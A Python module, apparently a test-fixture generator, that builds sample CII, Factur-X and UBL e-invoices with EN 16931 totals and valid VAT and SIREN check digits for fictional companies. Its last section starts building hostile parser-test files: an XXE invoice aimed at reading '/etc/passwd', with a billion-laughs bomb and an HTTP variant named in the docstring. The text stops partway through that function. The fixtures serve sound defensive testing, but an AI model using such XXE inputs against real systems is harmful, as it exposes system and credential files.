"""E-invoices made here, in memory and deterministically: the test corpus, the benchmark's mixed
batch and `make run`'s demo. Nothing is downloaded.

- `cii_invoice`, `facturx_invoice`, `ubl_invoice`, `ubl_credit_note`: `(filename, bytes)` for an
  invoice you describe (supplier, number, lines...); totals, tax breakdown and due dates are
  computed the way EN 16931 says (BR-CO-10 to BR-CO-16).
- One sample per tax situation: `standard_rate`, `reduced_rates`, `reverse_charge`,
  `several_rates`, `credit_note_ubl`, `credit_note_cii`, `foreign_currency`, `minimum_profile`.
- Hostile files: `xxe_file`, `xxe_http`, `billion_laughs`, `huge_file`, `pdf_without_xml`,
  `not_an_invoice`, `order_x`, `totals_off`, `non_number_amount`.
- `mixed(n)`: n different e-invoices in every format, for the benchmark and the demo.

Suppliers are realistic French and EU companies (made up) with VALID VAT numbers and SIRENs:
the check digits are computed with python-stdnum's own rules.
"""

from __future__ import annotations

import io
from dataclasses import dataclass, field, replace
from datetime import date, timedelta
from decimal import ROUND_HALF_UP, Decimal
from functools import lru_cache
from xml.sax.saxutils import escape, quoteattr

from stdnum import luhn
from stdnum.eu import vat as eu_vat
from stdnum.iso7064 import mod_11_10

CENT = Decimal("0.01")
NO_TAX_CATEGORIES = {"AE", "E", "Z", "K", "G", "O"}


# --- identifiers with valid check digits -------------------------------------------------------


def siren(first8: str) -> str:
    """A SIREN: 8 digits and their Luhn check digit."""
    return first8 + luhn.calc_check_digit(first8)


def fr_vat(siren_number: str) -> str:
    """The French VAT number of a SIREN: FR + key ((12 + 3 × (SIREN mod 97)) mod 97) + SIREN."""
    key = (12 + 3 * (int(siren_number) % 97)) % 97
    return f"FR{key:02d}{siren_number}"


def de_vat(first8: str) -> str:
    return "DE" + first8 + mod_11_10.calc_check_digit(first8)


def be_vat(first8: str) -> str:
    """BE + 10 digits starting with 0 (or 1): the last two are 97 - (first eight mod 97)."""
    number = "0" + first8[1:] if first8[0] not in "01" else first8
    return f"BE{number}{97 - int(number) % 97:02d}"


def it_vat(first7: str, office: str = "001") -> str:
    base = first7 + office
    return "IT" + base + luhn.calc_check_digit(base)


def gb_vat(first7: str) -> str:
    """GB + 9 digits: the weighted sum of the first 7 and the last two is 0 modulo 97."""
    total = sum(w * int(d) for w, d in zip(range(8, 1, -1), first7, strict=True))
    check = (-total) % 97
    return f"GB{first7}{check:02d}"


# --- what an invoice says -----------------------------------------------------------------


@dataclass(frozen=True)
class Company:
    name: str
    vat: str = ""
    siren: str = ""
    street: str = ""
    city: str = ""
    postal_code: str = ""
    country: str = "FR"
    email: str = ""


@dataclass(frozen=True)
class Item:
    name: str
    quantity: Decimal
    unit_price: Decimal  # net, per `base_quantity` units
    rate: Decimal | None = Decimal("20")
    category: str = "S"
    description: str = ""
    base_quantity: Decimal | None = None
    unit: str = "C62"  # UN/ECE rec 20: C62 one, HUR hour, KGM kilogram, DAY day

    @property
    def net(self) -> Decimal:
        amount = self.quantity * self.unit_price / (self.base_quantity or 1)
        return amount.quantize(CENT, rounding=ROUND_HALF_UP)


@dataclass(frozen=True)
class Invoice:
    number: str
    supplier: Company
    buyer: Company
    items: tuple[Item, ...]
    issue_date: date = date(2026, 3, 15)
    due_date: date | None = date(2026, 4, 14)
    currency: str = "EUR"
    credit_note: bool = False
    payment_terms: str = ""
    allowance: Decimal = Decimal(0)  # a document-level discount (BG-20), in the first group
    charge: Decimal = Decimal(0)  # a document-level charge (BG-21), in the first group
    prepaid: Decimal = Decimal(0)
    exemption_reason: str = ""  # for AE/E/K/G/O groups
    # Stated totals that differ from the computed ones (a document that does not add up).
    stated: dict = field(default_factory=dict)

    def groups(self) -> list[tuple[str, Decimal | None, Decimal, Decimal]]:
        """The VAT breakdown: (category, rate, taxable amount, tax), in the items' order."""
        bases: dict[tuple[str, Decimal | None], Decimal] = {}
        for item in self.items:
            key = (item.category, item.rate)
            bases[key] = bases.get(key, Decimal(0)) + item.net
        if bases and (self.allowance or self.charge):
            first = next(iter(bases))
            bases[first] += self.charge - self.allowance
        return [
            (category, rate, base, _tax(category, rate, base))
            for (category, rate), base in bases.items()
        ]

    def totals(self) -> dict[str, Decimal]:
        line_total = sum((item.net for item in self.items), Decimal(0))
        tax_exclusive = line_total - self.allowance + self.charge
        tax = sum((group[3] for group in self.groups()), Decimal(0))
        computed = {
            "line_total": line_total,
            "allowances": self.allowance,
            "charges": self.charge,
            "tax_exclusive": tax_exclusive,
            "tax": tax,
            "tax_inclusive": tax_exclusive + tax,
            "prepaid": self.prepaid,
            "payable": tax_exclusive + tax - self.prepaid,
        }
        return computed | self.stated


def _tax(category: str, rate: Decimal | None, base: Decimal) -> Decimal:
    if category in NO_TAX_CATEGORIES or rate is None:
        return Decimal("0.00")
    return (base * rate / 100).quantize(CENT, rounding=ROUND_HALF_UP)


def _money(amount: Decimal) -> str:
    return str(amount.quantize(CENT, rounding=ROUND_HALF_UP))


def _plain(number: Decimal) -> str:
    return format(number.normalize(), "f") if number == number.to_integral() else str(number)


# --- the companies -------------------------------------------------------------------------

BUYER = Company(
    name="Boulangerie Martin SARL",
    siren=siren("41234567"),
    vat=fr_vat(siren("41234567")),
    street="8 place du Marché",
    city="Lyon",
    postal_code="69002",
    email="compta@boulangerie-martin.fr",
)

SUPPLIERS = (
    Company(
        "Fournitures Dupont SAS",
        vat=fr_vat(siren("73282932")),
        siren=siren("73282932"),
        street="12 rue de la République",
        city="Paris",
        postal_code="75011",
        email="factures@fournitures-dupont.fr",
    ),
    Company(
        "Imprimerie Lefèvre & Fils",
        vat=fr_vat(siren("38012986")),
        siren=siren("38012986"),
        street="3 avenue Jean Jaurès",
        city="Toulouse",
        postal_code="31000",
        email="compta@imprimerie-lefevre.fr",
    ),
    Company(
        "Café Torréfaction Moreau",
        vat=fr_vat(siren("52145896")),
        siren=siren("52145896"),
        street="45 quai des Chartrons",
        city="Bordeaux",
        postal_code="33000",
        email="facturation@cafe-moreau.fr",
    ),
    Company(
        "Nettoyage Pro Services SARL",
        vat=fr_vat(siren("81455320")),
        siren=siren("81455320"),
        street="27 boulevard Carnot",
        city="Lille",
        postal_code="59000",
        email="factures@nettoyage-pro.fr",
    ),
    Company(
        "Müller Maschinenbau GmbH",
        vat=de_vat("12345678"),
        street="Industriestraße 14",
        city="Stuttgart",
        postal_code="70565",
        country="DE",
        email="rechnung@mueller-maschinenbau.de",
    ),
    Company(
        "Brasserie Van Damme BV",
        vat=be_vat("04567891"),
        street="Rue Haute 118",
        city="Bruxelles",
        postal_code="1000",
        country="BE",
        email="invoices@vandamme.be",
    ),
    Company(
        "Ceramiche Rossi S.r.l.",
        vat=it_vat("0215834", "035"),
        street="Via Emilia 220",
        city="Sassuolo",
        postal_code="41049",
        country="IT",
        email="fatture@ceramicherossi.it",
    ),
    Company(
        "Thornbury Tea Traders Ltd",
        vat=gb_vat("9806321"),
        street="14 Wharf Road",
        city="Bristol",
        postal_code="BS1 4RN",
        country="GB",
        email="accounts@thornburytea.co.uk",
    ),
)
DUPONT, LEFEVRE, MOREAU, NETTOYAGE, MULLER, VAN_DAMME, ROSSI, THORNBURY = SUPPLIERS


def invoice(
    *,
    supplier: Company = DUPONT,
    buyer: Company = BUYER,
    number: str = "FA-2026-0001",
    items: tuple[Item, ...] | list[Item] | None = None,
    **options,
) -> Invoice:
    """An invoice to write in any format; `options` are `Invoice`'s other fields."""
    items = (
        tuple(items)
        if items is not None
        else (Item("Ramette papier A4", Decimal(10), Decimal("4.50")),)
    )
    return Invoice(number=number, supplier=supplier, buyer=buyer, items=items, **options)


# --- CII (Factur-X EN 16931 / MINIMUM) -----------------------------------------------------

_CII_NS = (
    'xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100" '
    'xmlns:qdt="urn:un:unece:uncefact:data:standard:QualifiedDataType:100" '
    'xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100" '
    'xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100"'
)
EN16931 = "urn:cen.eu:en16931:2017"
MINIMUM = "urn:factur-x.eu:1p0:minimum"


def _e(value: str) -> str:
    return escape(str(value))


def _cii_date(value: date) -> str:
    return f'<udt:DateTimeString format="102">{value:%Y%m%d}</udt:DateTimeString>'


def _cii_party(tag: str, company: Company, *, full: bool = True) -> str:
    parts = [f"<ram:Name>{_e(company.name)}</ram:Name>"]
    if company.siren:
        parts.append(
            "<ram:SpecifiedLegalOrganization>"
            f'<ram:ID schemeID="0002">{_e(company.siren)}</ram:ID>'
            "</ram:SpecifiedLegalOrganization>"
        )
    if full and company.email:
        parts.append(
            "<ram:DefinedTradeContact><ram:EmailURIUniversalCommunication>"
            f"<ram:URIID>{_e(company.email)}</ram:URIID>"
            "</ram:EmailURIUniversalCommunication></ram:DefinedTradeContact>"
        )
    if full:
        parts.append(
            "<ram:PostalTradeAddress>"
            f"<ram:PostcodeCode>{_e(company.postal_code)}</ram:PostcodeCode>"
            f"<ram:LineOne>{_e(company.street)}</ram:LineOne>"
            f"<ram:CityName>{_e(company.city)}</ram:CityName>"
            f"<ram:CountryID>{_e(company.country)}</ram:CountryID>"
            "</ram:PostalTradeAddress>"
        )
    elif tag == "SellerTradeParty":
        parts.append(
            "<ram:PostalTradeAddress>"
            f"<ram:CountryID>{_e(company.country)}</ram:CountryID>"
            "</ram:PostalTradeAddress>"
        )
    if company.vat and (full or tag == "SellerTradeParty"):
        parts.append(
            "<ram:SpecifiedTaxRegistration>"
            f'<ram:ID schemeID="VA">{_e(company.vat)}</ram:ID>'
            "</ram:SpecifiedTaxRegistration>"
        )
    return f"<ram:{tag}>{''.join(parts)}</ram:{tag}>"


def _cii_item(position: int, item: Item) -> str:
    description = (
        f"<ram:Description>{_e(item.description)}</ram:Description>" if item.description else ""
    )
    base = (
        f'<ram:BasisQuantity unitCode="{item.unit}">{_plain(item.base_quantity)}</ram:BasisQuantity>'
        if item.base_quantity
        else ""
    )
    rate = (
        f"<ram:RateApplicablePercent>{_plain(item.rate)}</ram:RateApplicablePercent>"
        if item.rate is not None
        else ""
    )
    return (
        "<ram:IncludedSupplyChainTradeLineItem>"
        f"<ram:AssociatedDocumentLineDocument><ram:LineID>{position}</ram:LineID>"
        "</ram:AssociatedDocumentLineDocument>"
        f"<ram:SpecifiedTradeProduct><ram:Name>{_e(item.name)}</ram:Name>{description}"
        "</ram:SpecifiedTradeProduct>"
        "<ram:SpecifiedLineTradeAgreement><ram:NetPriceProductTradePrice>"
        f"<ram:ChargeAmount>{item.unit_price}</ram:ChargeAmount>{base}"
        "</ram:NetPriceProductTradePrice></ram:SpecifiedLineTradeAgreement>"
        "<ram:SpecifiedLineTradeDelivery>"
        f'<ram:BilledQuantity unitCode="{item.unit}">{_plain(item.quantity)}</ram:BilledQuantity>'
        "</ram:SpecifiedLineTradeDelivery>"
        "<ram:SpecifiedLineTradeSettlement><ram:ApplicableTradeTax><ram:TypeCode>VAT</ram:TypeCode>"
        f"<ram:CategoryCode>{item.category}</ram:CategoryCode>{rate}</ram:ApplicableTradeTax>"
        "<ram:SpecifiedTradeSettlementLineMonetarySummation>"
        f"<ram:LineTotalAmount>{_money(item.net)}</ram:LineTotalAmount>"
        "</ram:SpecifiedTradeSettlementLineMonetarySummation></ram:SpecifiedLineTradeSettlement>"
        "</ram:IncludedSupplyChainTradeLineItem>"
    )


def _cii_allowance(charge: bool, amount: Decimal, category: str, rate: Decimal | None) -> str:
    rate_xml = (
        f"<ram:RateApplicablePercent>{_plain(rate)}</ram:RateApplicablePercent>"
        if rate is not None
        else ""
    )
    reason = "Frais de livraison" if charge else "Remise commerciale"
    return (
        "<ram:SpecifiedTradeAllowanceCharge>"
        f"<ram:ChargeIndicator><udt:Indicator>{'true' if charge else 'false'}</udt:Indicator>"
        f"</ram:ChargeIndicator><ram:ActualAmount>{_money(amount)}</ram:ActualAmount>"
        f"<ram:Reason>{reason}</ram:Reason>"
        "<ram:CategoryTradeTax><ram:TypeCode>VAT</ram:TypeCode>"
        f"<ram:CategoryCode>{category}</ram:CategoryCode>{rate_xml}</ram:CategoryTradeTax>"
        "</ram:SpecifiedTradeAllowanceCharge>"
    )


def cii_xml(doc: Invoice, *, guideline: str = EN16931) -> bytes:
    """The invoice as CII D16B XML, EN 16931 profile (or Factur-X MINIMUM: no lines, no parties'
    details, only the totals)."""
    minimum = guideline == MINIMUM
    totals = doc.totals()
    groups = doc.groups()
    type_code = "381" if doc.credit_note else "380"
    lines = "" if minimum else "".join(_cii_item(i, item) for i, item in enumerate(doc.items, 1))
    taxes = ""
    allowances = ""
    terms = ""
    summary = ""
    if not minimum:
        for category, rate, base, tax in groups:
            reason = (
                f"<ram:ExemptionReason>{_e(doc.exemption_reason)}</ram:ExemptionReason>"
                if category in NO_TAX_CATEGORIES and doc.exemption_reason
                else ""
            )
            rate_xml = (
                f"<ram:RateApplicablePercent>{_plain(rate)}</ram:RateApplicablePercent>"
                if rate is not None
                else ""
            )
            taxes += (
                f"<ram:ApplicableTradeTax><ram:CalculatedAmount>{_money(tax)}</ram:CalculatedAmount>"
                f"<ram:TypeCode>VAT</ram:TypeCode>{reason}"
                f"<ram:BasisAmount>{_money(base)}</ram:BasisAmount>"
                f"<ram:CategoryCode>{category}</ram:CategoryCode>{rate_xml}"
                "</ram:ApplicableTradeTax>"
            )
        if groups:
            category, rate = groups[0][0], groups[0][1]
            if doc.allowance:
                allowances += _cii_allowance(False, doc.allowance, category, rate)
            if doc.charge:
                allowances += _cii_allowance(True, doc.charge, category, rate)
        if doc.payment_terms or doc.due_date:
            terms = "<ram:SpecifiedTradePaymentTerms>"
            if doc.payment_terms:
                terms += f"<ram:Description>{_e(doc.payment_terms)}</ram:Description>"
            if doc.due_date:
                terms += f"<ram:DueDateDateTime>{_cii_date(doc.due_date)}</ram:DueDateDateTime>"
            terms += "</ram:SpecifiedTradePaymentTerms>"
        summary += f"<ram:LineTotalAmount>{_money(totals['line_total'])}</ram:LineTotalAmount>"
        if doc.charge:
            summary += f"<ram:ChargeTotalAmount>{_money(totals['charges'])}</ram:ChargeTotalAmount>"
        if doc.allowance:
            summary += f"<ram:AllowanceTotalAmount>{_money(totals['allowances'])}</ram:AllowanceTotalAmount>"
    summary += (
        f"<ram:TaxBasisTotalAmount>{_money(totals['tax_exclusive'])}</ram:TaxBasisTotalAmount>"
        f'<ram:TaxTotalAmount currencyID="{doc.currency}">{_money(totals["tax"])}</ram:TaxTotalAmount>'
        f"<ram:GrandTotalAmount>{_money(totals['tax_inclusive'])}</ram:GrandTotalAmount>"
    )
    if totals["prepaid"]:
        summary += f"<ram:TotalPrepaidAmount>{_money(totals['prepaid'])}</ram:TotalPrepaidAmount>"
    summary += f"<ram:DuePayableAmount>{_money(totals['payable'])}</ram:DuePayableAmount>"
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<rsm:CrossIndustryInvoice {_CII_NS}>'
        "<rsm:ExchangedDocumentContext>"
        "<ram:BusinessProcessSpecifiedDocumentContextParameter><ram:ID>A1</ram:ID>"
        "</ram:BusinessProcessSpecifiedDocumentContextParameter>"
        "<ram:GuidelineSpecifiedDocumentContextParameter>"
        f"<ram:ID>{guideline}</ram:ID></ram:GuidelineSpecifiedDocumentContextParameter>"
        "</rsm:ExchangedDocumentContext>"
        "<rsm:ExchangedDocument>"
        f"<ram:ID>{_e(doc.number)}</ram:ID><ram:TypeCode>{type_code}</ram:TypeCode>"
        f"<ram:IssueDateTime>{_cii_date(doc.issue_date)}</ram:IssueDateTime>"
        "</rsm:ExchangedDocument>"
        f"<rsm:SupplyChainTradeTransaction>{lines}"
        "<ram:ApplicableHeaderTradeAgreement>"
        + _cii_party("SellerTradeParty", doc.supplier, full=not minimum)
        + _cii_party("BuyerTradeParty", doc.buyer, full=not minimum)
        + "</ram:ApplicableHeaderTradeAgreement>"
        "<ram:ApplicableHeaderTradeDelivery/>"
        "<ram:ApplicableHeaderTradeSettlement>"
        f"<ram:InvoiceCurrencyCode>{doc.currency}</ram:InvoiceCurrencyCode>"
        f"{taxes}{allowances}{terms}"
        f"<ram:SpecifiedTradeSettlementHeaderMonetarySummation>{summary}"
        "</ram:SpecifiedTradeSettlementHeaderMonetarySummation>"
        "</ram:ApplicableHeaderTradeSettlement>"
        "</rsm:SupplyChainTradeTransaction>"
        "</rsm:CrossIndustryInvoice>\n"
    )
    return xml.encode()


# --- UBL 2.1 --------------------------------------------------------------------------------

_UBL_NS = (
    'xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2" '
    'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"'
)
PEPPOL = "urn:cen.eu:en16931:2017#compliant#urn:fdc:peppol.eu:2017:poacc:billing:3.0"


def _ubl_party(tag: str, company: Company) -> str:
    endpoint = (
        f'<cbc:EndpointID schemeID="EM">{_e(company.email)}</cbc:EndpointID>'
        if company.email
        else ""
    )
    tax = (
        "<cac:PartyTaxScheme>"
        f"<cbc:CompanyID>{_e(company.vat)}</cbc:CompanyID>"
        "<cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:PartyTaxScheme>"
        if company.vat
        else ""
    )
    legal_id = (
        f'<cbc:CompanyID schemeID="0002">{_e(company.siren)}</cbc:CompanyID>'
        if company.siren
        else ""
    )
    contact = (
        f"<cac:Contact><cbc:ElectronicMail>{_e(company.email)}</cbc:ElectronicMail></cac:Contact>"
        if company.email
        else ""
    )
    return (
        f"<cac:{tag}><cac:Party>{endpoint}"
        f"<cac:PartyName><cbc:Name>{_e(company.name)}</cbc:Name></cac:PartyName>"
        "<cac:PostalAddress>"
        f"<cbc:StreetName>{_e(company.street)}</cbc:StreetName>"
        f"<cbc:CityName>{_e(company.city)}</cbc:CityName>"
        f"<cbc:PostalZone>{_e(company.postal_code)}</cbc:PostalZone>"
        f"<cac:Country><cbc:IdentificationCode>{company.country}</cbc:IdentificationCode>"
        "</cac:Country></cac:PostalAddress>"
        f"{tax}<cac:PartyLegalEntity>"
        f"<cbc:RegistrationName>{_e(company.name)}</cbc:RegistrationName>{legal_id}"
        f"</cac:PartyLegalEntity>{contact}</cac:Party></cac:{tag}>"
    )


def _ubl_category(tag: str, category: str, rate: Decimal | None, reason: str = "") -> str:
    percent = f"<cbc:Percent>{_plain(rate)}</cbc:Percent>" if rate is not None else ""
    reason_xml = f"<cbc:TaxExemptionReason>{_e(reason)}</cbc:TaxExemptionReason>" if reason else ""
    return (
        f"<cac:{tag}><cbc:ID>{category}</cbc:ID>{percent}{reason_xml}"
        f"<cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:{tag}>"
    )


def ubl_xml(doc: Invoice) -> bytes:
    """The invoice as a UBL 2.1 Invoice (or CreditNote), EN 16931 / Peppol BIS 3 style."""
    credit = doc.credit_note
    root = "CreditNote" if credit else "Invoice"
    ns_root = f"urn:oasis:names:specification:ubl:schema:xsd:{root}-2"
    totals = doc.totals()
    currency = f'currencyID="{doc.currency}"'
    header = (
        f"<cbc:CustomizationID>{PEPPOL}</cbc:CustomizationID>"
        "<cbc:ProfileID>urn:fdc:peppol.eu:2017:poacc:billing:01:1.0</cbc:ProfileID>"
        f"<cbc:ID>{_e(doc.number)}</cbc:ID>"
        f"<cbc:IssueDate>{doc.issue_date.isoformat()}</cbc:IssueDate>"
    )
    if credit:
        header += "<cbc:CreditNoteTypeCode>381</cbc:CreditNoteTypeCode>"
    else:
        if doc.due_date:
            header += f"<cbc:DueDate>{doc.due_date.isoformat()}</cbc:DueDate>"
        header += "<cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode>"
    header += f"<cbc:DocumentCurrencyCode>{doc.currency}</cbc:DocumentCurrencyCode>"
    parties = _ubl_party("AccountingSupplierParty", doc.supplier) + _ubl_party(
        "AccountingCustomerParty", doc.buyer
    )
    payment = ""
    if credit and doc.due_date:
        payment += (
            "<cac:PaymentMeans><cbc:PaymentMeansCode>30</cbc:PaymentMeansCode>"
            f"<cbc:PaymentDueDate>{doc.due_date.isoformat()}</cbc:PaymentDueDate>"
            "</cac:PaymentMeans>"
        )
    if doc.payment_terms:
        payment += (
            f"<cac:PaymentTerms><cbc:Note>{_e(doc.payment_terms)}</cbc:Note></cac:PaymentTerms>"
        )
    groups = doc.groups()
    allowances = ""
    if groups:
        category, rate = groups[0][0], groups[0][1]
        for charge, amount, reason in (
            (False, doc.allowance, "Remise commerciale"),
            (True, doc.charge, "Frais de livraison"),
        ):
            if amount:
                allowances += (
                    "<cac:AllowanceCharge>"
                    f"<cbc:ChargeIndicator>{'true' if charge else 'false'}</cbc:ChargeIndicator>"
                    f"<cbc:AllowanceChargeReason>{reason}</cbc:AllowanceChargeReason>"
                    f"<cbc:Amount {currency}>{_money(amount)}</cbc:Amount>"
                    + _ubl_category("TaxCategory", category, rate)
                    + "</cac:AllowanceCharge>"
                )
    subtotals = "".join(
        "<cac:TaxSubtotal>"
        f"<cbc:TaxableAmount {currency}>{_money(base)}</cbc:TaxableAmount>"
        f"<cbc:TaxAmount {currency}>{_money(tax)}</cbc:TaxAmount>"
        + _ubl_category(
            "TaxCategory",
            category,
            rate,
            doc.exemption_reason if category in NO_TAX_CATEGORIES else "",
        )
        + "</cac:TaxSubtotal>"
        for category, rate, base, tax in groups
    )
    tax_total = (
        f"<cac:TaxTotal><cbc:TaxAmount {currency}>{_money(totals['tax'])}</cbc:TaxAmount>"
        f"{subtotals}</cac:TaxTotal>"
    )
    monetary = (
        f"<cbc:LineExtensionAmount {currency}>{_money(totals['line_total'])}</cbc:LineExtensionAmount>"
        f"<cbc:TaxExclusiveAmount {currency}>{_money(totals['tax_exclusive'])}</cbc:TaxExclusiveAmount>"
        f"<cbc:TaxInclusiveAmount {currency}>{_money(totals['tax_inclusive'])}</cbc:TaxInclusiveAmount>"
    )
    if doc.allowance:
        monetary += (
            f"<cbc:AllowanceTotalAmount {currency}>{_money(totals['allowances'])}"
            "</cbc:AllowanceTotalAmount>"
        )
    if doc.charge:
        monetary += (
            f"<cbc:ChargeTotalAmount {currency}>{_money(totals['charges'])}</cbc:ChargeTotalAmount>"
        )
    if totals["prepaid"]:
        monetary += f"<cbc:PrepaidAmount {currency}>{_money(totals['prepaid'])}</cbc:PrepaidAmount>"
    monetary += f"<cbc:PayableAmount {currency}>{_money(totals['payable'])}</cbc:PayableAmount>"
    line_tag = "CreditNoteLine" if credit else "InvoiceLine"
    quantity_tag = "CreditedQuantity" if credit else "InvoicedQuantity"
    lines = "".join(
        f"<cac:{line_tag}><cbc:ID>{position}</cbc:ID>"
        f'<cbc:{quantity_tag} unitCode="{item.unit}">{_plain(item.quantity)}</cbc:{quantity_tag}>'
        f"<cbc:LineExtensionAmount {currency}>{_money(item.net)}</cbc:LineExtensionAmount>"
        "<cac:Item>"
        + (f"<cbc:Description>{_e(item.description)}</cbc:Description>" if item.description else "")
        + f"<cbc:Name>{_e(item.name)}</cbc:Name>"
        + _ubl_category("ClassifiedTaxCategory", item.category, item.rate)
        + "</cac:Item>"
        f"<cac:Price><cbc:PriceAmount {currency}>{item.unit_price}</cbc:PriceAmount>"
        + (
            f'<cbc:BaseQuantity unitCode="{item.unit}">{_plain(item.base_quantity)}</cbc:BaseQuantity>'
            if item.base_quantity
            else ""
        )
        + f"</cac:Price></cac:{line_tag}>"
        for position, item in enumerate(doc.items, 1)
    )
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<{root} xmlns={quoteattr(ns_root)} {_UBL_NS}>'
        f"{header}{parties}{payment}{allowances}{tax_total}"
        f"<cac:LegalMonetaryTotal>{monetary}</cac:LegalMonetaryTotal>{lines}</{root}>\n"
    )
    return xml.encode()


# --- Factur-X PDFs --------------------------------------------------------------------------


@lru_cache(maxsize=1)
def blank_pdf() -> bytes:
    """One blank A4 page (pypdf), the visual part of our Factur-X samples."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": "Facture", "/Producer": "BillPay samples"})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def facturx_pdf(xml: bytes, *, check_xsd: bool = True) -> bytes:
    """A Factur-X PDF: the blank page with `xml` embedded as factur-x.xml (the `factur-x`
    library; it checks the XML against the profile's XSD unless told not to)."""
    import facturx

    return facturx.generate_from_binary(
        blank_pdf(),
        xml,
        check_xsd=check_xsd,
        pdf_metadata={
            "author": "BillPay samples",
            "keywords": "Factur-X, Invoice",
            "title": "Invoice",
            "subject": "Factur-X invoice",
        },
    )


# --- the public API: (filename, bytes) -----------------------------------------------------


def _slug(number: str) -> str:
    return "".join(c if c.isalnum() or c in "-_" else "-" for c in number) or "invoice"


def cii_invoice(**options) -> tuple[str, bytes]:
    doc = invoice(**options)
    return f"{_slug(doc.number)}.xml", cii_xml(doc)


def facturx_invoice(*, guideline: str = EN16931, **options) -> tuple[str, bytes]:
    doc = invoice(**options)
    return f"{_slug(doc.number)}.pdf", facturx_pdf(cii_xml(doc, guideline=guideline))


def ubl_invoice(**options) -> tuple[str, bytes]:
    doc = invoice(**options)
    return f"{_slug(doc.number)}.xml", ubl_xml(doc)


def ubl_credit_note(**options) -> tuple[str, bytes]:
    options.setdefault("number", "AV-2026-0001")
    doc = invoice(credit_note=True, **options)
    return f"{_slug(doc.number)}.xml", ubl_xml(doc)


# --- one sample per tax situation ----------------------------------------------------------

STANDARD_ITEMS = (
    Item("Ramette papier A4 80 g", Decimal(10), Decimal("4.50"), description="Carton de 5"),
    Item("Cartouche d'encre noire", Decimal(2), Decimal("38.90")),
    Item("Agrafes 26/6", Decimal(250), Decimal("1.20"), base_quantity=Decimal(100)),
)
REDUCED_ITEMS = (
    Item("Café en grains bio 1 kg", Decimal(12), Decimal("18.40"), rate=Decimal("5.5"), unit="KGM"),
    Item("Livraison et installation", Decimal(1), Decimal("45.00"), rate=Decimal("10")),
)
REVERSE_CHARGE_ITEMS = (
    Item("Ersatzteil Förderband", Decimal(3), Decimal("412.00"), rate=Decimal(0), category="AE"),
    Item("Wartung vor Ort", Decimal("6.5"), Decimal("95.00"), rate=Decimal(0), category="AE",
         unit="HUR"),
)  # fmt: skip
SEVERAL_RATES_ITEMS = (
    Item("Pain de campagne", Decimal(40), Decimal("2.10"), rate=Decimal("5.5")),
    Item("Plateau repas", Decimal(15), Decimal("12.50"), rate=Decimal("10")),
    Item("Location de vaisselle", Decimal(1), Decimal("80.00"), rate=Decimal("20")),
    Item("Timbres-poste", Decimal(20), Decimal("1.39"), rate=Decimal(0), category="E"),
)


def standard_rate() -> tuple[str, bytes]:
    """A Factur-X EN 16931 PDF at 20 %, with a price per 100 units and a discount."""
    return facturx_invoice(
        supplier=DUPONT,
        number="FA-2026-0042",
        items=STANDARD_ITEMS,
        allowance=Decimal("5.00"),
        payment_terms="Paiement à 30 jours",
    )


def reduced_rates() -> tuple[str, bytes]:
    """A CII XML at 5.5 % and 10 %, with a delivery charge."""
    return cii_invoice(
        supplier=MOREAU,
        number="CM-26-118",
        items=REDUCED_ITEMS,
        charge=Decimal("12.00"),
        due_date=date(2026, 3, 31),
    )


def reverse_charge() -> tuple[str, bytes]:
    """A UBL invoice from Germany, intra-EU reverse charge (AE, no tax)."""
    return ubl_invoice(
        supplier=MULLER,
        number="RE-2026-00731",
        items=REVERSE_CHARGE_ITEMS,
        exemption_reason="Autoliquidation - Article 196 de la directive 2006/112/CE",
    )


def several_rates() -> tuple[str, bytes]:
    """A Factur-X PDF with 5.5 %, 10 %, 20 % and an exempt line, partly prepaid."""
    return facturx_invoice(
        supplier=LEFEVRE,
        number="IL/2026/0310",
        items=SEVERAL_RATES_ITEMS,
        prepaid=Decimal("100.00"),
        exemption_reason="Exonération article 261 du CGI",
    )


def credit_note_ubl() -> tuple[str, bytes]:
    return ubl_credit_note(
        supplier=NETTOYAGE,
        number="AV-2026-0007",
        items=(Item("Avoir - prestation non réalisée", Decimal(1), Decimal("240.00")),),
        due_date=None,
    )


def credit_note_cii() -> tuple[str, bytes]:
    return cii_invoice(
        supplier=DUPONT,
        number="AV-2026-0012",
        items=(Item("Retour cartouches défectueuses", Decimal(2), Decimal("38.90")),),
        credit_note=True,
        due_date=None,
    )


def foreign_currency() -> tuple[str, bytes]:
    """A UBL invoice in pounds sterling from a UK supplier (GB VAT)."""
    return ubl_invoice(
        supplier=THORNBURY,
        number="TTT-5521",
        currency="GBP",
        items=(
            Item(
                "Assam loose leaf tea 1 kg",
                Decimal(5),
                Decimal("21.75"),
                rate=Decimal(0),
                category="G",
                unit="KGM",
            ),
        ),  # fmt: skip
        exemption_reason="Export outside the UK",
        issue_date=date(2026, 2, 2),
        due_date=date(2026, 3, 4),
    )


def minimum_profile() -> tuple[str, bytes]:
    """A Factur-X MINIMUM PDF: totals only, no lines."""
    return facturx_invoice(
        guideline=MINIMUM,
        supplier=LEFEVRE,
        number="IL/2026/0311",
        items=(Item("Impression flyers", Decimal(1000), Decimal("0.12")),),
    )


SAMPLES = {
    "standard_rate": standard_rate,
    "reduced_rates": reduced_rates,
    "reverse_charge": reverse_charge,
    "several_rates": several_rates,
    "credit_note_ubl": credit_note_ubl,
    "credit_note_cii": credit_note_cii,
    "foreign_currency": foreign_currency,
    "minimum_profile": minimum_profile,
}


def corpus() -> dict[str, tuple[str, bytes]]:
    """Every good sample, by name."""
    return {name: make() for name, make in SAMPLES.items()}


# --- hostile files -------------------------------------------------------------------------

SECRET_FILE = "/etc/passwd"


def xxe_file(path: str = SECRET_FILE) -> tuple[str, bytes]:
    """A UBL invoice whose number is an external entity reading a local file."""
    xml = ubl_xml(invoice(number="XXE")).decode()
    xml = xml.replace(
        '<?xml version="1.0" encoding="UTF-8"?>\n',
